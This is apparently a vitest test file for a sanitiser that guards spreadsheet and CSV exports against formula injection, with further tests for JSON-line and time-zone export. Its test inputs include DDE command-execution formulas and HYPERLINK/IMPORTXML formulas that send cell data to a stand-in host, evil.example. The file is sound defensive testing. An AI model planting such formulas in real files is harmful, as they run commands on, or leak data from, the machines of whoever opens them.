import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { isoTimes } from '#relay/storage/sqlite/search/export-times.ts';
import { csvCell, jsonLine, spreadsheetText } from '#relay/storage/sqlite/search/export-text.ts';

/** Reads separated values as programs do that are set to this separator: quotation marks count at a cell's beginning. */
function readCsv(text: string, separator = ','): string[][] {
  const rows: string[][] = [[]];
  let cell = '';
  let isQuoted = false;
  let isBegun = false;
  const row = (): string[] => rows.at(-1) ?? [];
  for (let at = 0; at < text.length; at += 1) {
    const sign = text.charAt(at);
    if (isQuoted) {
      if (sign !== '"') cell += sign;
      else if (text.charAt(at + 1) === '"') {
        cell += '"';
        at += 1;
      } else isQuoted = false;
    } else if (sign === '"' && !isBegun) {
      isQuoted = true;
      isBegun = true;
    } else if (sign === separator || sign === '\n' || sign === '\r') {
      row().push(cell);
      if (sign !== separator) rows.push([]);
      if (sign === '\r' && text.charAt(at + 1) === '\n') at += 1;
      cell = '';
      isBegun = false;
    } else {
      cell += sign;
      isBegun = true;
    }
  }
  if (cell !== '' || row().length > 0) row().push(cell);
  return rows.filter(({ length }) => length > 0);
}

/** What a spreadsheet program would take for a formula. */
const isFormula = (cell: string): boolean => /^[\s\p{Cc}\p{Cf}\p{M}"]*[=+\-@\uff1d\uff0b\uff0d\uff20]/u.test(cell);

/** Cells that run or turn into something else where nobody watches. */
const hostile = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
  '=DDE("cmd";"/C calc";"x")',
  '+1+1',
  '+31612345678',
  '-1+1',
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  ' =1+1',
  '   \t =1+1',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\r\n=1+1',
  '\v=1',
  '\f=1',
  '\0=1+1',
  '\u00a0=1+1',
  '\u3000=1+1',
  '\u200b=1+1',
  '\u202e=1+1',
  '\u2066=1+1',
  '\ufeff=1+1',
  '\u00ad=1',
  '\u180e=1',
  '\u2800=1',
  '\u3164=1',
  '\ufe0f=1',
  '\u{e0020}=1+1',
  '\uff1d1+1',
  '\uff0b1',
  '\uff0d1',
  '\uff20SUM(1)',
  '"=1+1',
  '""=1+1',
  "'=1+1",
  'hello;=1+1',
  'hello; =1+1',
  'hello\n=1+1',
  'hello\r\n-2+3',
  'hello\t@SUM(1)',
  'a;"=1+1',
  'a\n\n\n=1+1',
  'ok\u2028=1+1',
  'a;=b;=c;+d',
  '\n;\n=1',
  ';=1',
  '",=1+1',
  '"\n=1+1,"',
];

/** What would not be the same any more when a program had read it. */
const changed = [
  '24012345678901234567',
  '123456789012',
  '0031612345678',
  '007',
  '1e5',
  '1E400',
  '12-11-2026',
  '1-2',
  '3/4',
  '12:30',
  '1.000,50',
  '10%',
  '1 000 000',
  '\uff11\uff12\uff13',
  ' 12',
];

describe('text for spreadsheets', () => {
  it.each(hostile)('takes the sting out of %j', (text) => {
    const cell = csvCell(text);
    for (const separator of [',', ';', '\t']) {
      const [rows] = [readCsv(`x,${cell},x\r\n`, separator)];
      for (const read of rows.flat()) expect(isFormula(read), `${JSON.stringify(read)} with ${separator}`).toBe(false);
    }
  });

  it.each(changed)('keeps %j as it is written', (text) => {
    expect(spreadsheetText(text)).toBe(`'${text}`);
  });

  it.each([
    '',
    'hello',
    '12',
    '0',
    '45015',
    '99999999999',
    "'t is goed",
    'a=b',
    'a - b',
    '1 jaar',
    'HTTP 503',
    '=)'.slice(1),
    '我的订单',
    '😀 ok',
  ])('leaves %j alone', (text) => {
    expect(spreadsheetText(text)).toBe(text);
  });

  it('takes a megabyte in its stride', () => {
    const startedAt = performance.now();
    for (const sign of ['\n', ' ', ';', '=', "'", '"', 'a', '9', '\u200b']) spreadsheetText(sign.repeat(1_000_000));
    // Nine of them: a rule that looks at what follows again and again would take hours.
    expect(performance.now() - startedAt).toBeLessThan(10_000);
  });

  it('is read back as what was written but for the apostrophes, whatever is in it', () => {
    const signs = fc.constantFrom(
      '=',
      '+',
      '-',
      '@',
      '\uff1d',
      "'",
      '"',
      ',',
      ';',
      '\r',
      '\n',
      '\t',
      ' ',
      '\u200b',
      'a',
      '王',
      '1',
      '😀',
    );
    const text = fc.oneof(fc.string({ unit: signs, maxLength: 12 }), fc.string({ unit: 'binary', maxLength: 40 }));
    fc.assert(
      fc.property(fc.array(text, { minLength: 1, maxLength: 6 }), (cells) => {
        const written = cells.map((cell) => cell.replaceAll('\0', ''));
        const line = `${['1', ...written.map(csvCell)].join(',')}\r\n`;
        const [read, ...others] = readCsv(line);
        expect(others).toEqual([]);
        expect(read).toEqual(['1', ...written.map(spreadsheetText)]);
        read?.slice(1).forEach((cell, place) => {
          expect(isFormula(cell)).toBe(false);
          expect(cell.replaceAll("'", '')).toBe(written[place]?.replaceAll("'", ''));
        });
      }),
      { numRuns: 200 },
    );
  });

  it('marks what looks as if it were marked already, so that the apostrophe can be taken away again', () => {
    const signs = fc.constantFrom('=', '-', "'", ';', '\n', '\t', ' ', '"', 'a', '0', '1', 'e');
    fc.assert(
      fc.property(fc.string({ unit: signs, maxLength: 8 }), (text) => {
        const safe = spreadsheetText(text);
        if (safe !== text) expect(spreadsheetText(safe)).not.toBe(safe);
      }),
      { numRuns: 1_000 },
    );
  });

  it('writes no half characters and no null characters', () => {
    expect(csvCell('a\ud800b\0c\udc00')).toBe('a\ufffdb\ufffdc\ufffd');
    expect(csvCell(null)).toBe('');
    expect(csvCell(-5)).toBe('-5');
  });
});

describe('lines of JSON', () => {
  it('are lines, whatever is in them, and read back exactly', () => {
    const odd = 'a\u2028b\u2029c\u0085d\u202ee\ufefff\ud800g\r\nh\u007f\0i"\\\u{e0020}\u200d';
    const line = jsonLine({ text: odd });

    expect(line).toMatch(/^[\x20-\x7e\u{e0020}]+$/u);
    expect(JSON.parse(line)).toEqual({ text: odd });
    expect(Buffer.from(line, 'utf8').toString('utf8')).toBe(line);
    fc.assert(
      fc.property(fc.string({ unit: 'binary' }), (text) => {
        const written = jsonLine({ text });
        expect(written.split(/[\r\n\u0085\u2028\u2029]/u)).toHaveLength(1);
        expect(JSON.parse(written)).toEqual({ text });
      }),
    );
  });
});

describe('moments in a file', () => {
  it.each([
    ['Europe/Amsterdam', '2026-03-29T00:59:59.999Z', '2026-03-29T01:59:59.999+01:00'],
    ['Europe/Amsterdam', '2026-03-29T01:00:00.000Z', '2026-03-29T03:00:00.000+02:00'],
    ['Asia/Shanghai', '2026-11-23T20:15:00.007Z', '2026-11-24T04:15:00.007+08:00'],
    ['America/St_Johns', '2026-11-23T20:15:00.000Z', '2026-11-23T16:45:00.000-03:30'],
    ['UTC', '2026-11-23T20:15:00.000Z', '2026-11-23T20:15:00.000+00:00'],
    ['Nowhere/Else', '2026-11-23T20:15:00.000Z', '2026-11-23T20:15:00.000+00:00'],
  ])('are told by the clock of %s', (zone, at, shown) => {
    expect(isoTimes(zone)(Date.parse(at))).toBe(shown);
    expect(Date.parse(shown)).toBe(Date.parse(at));
  });
});
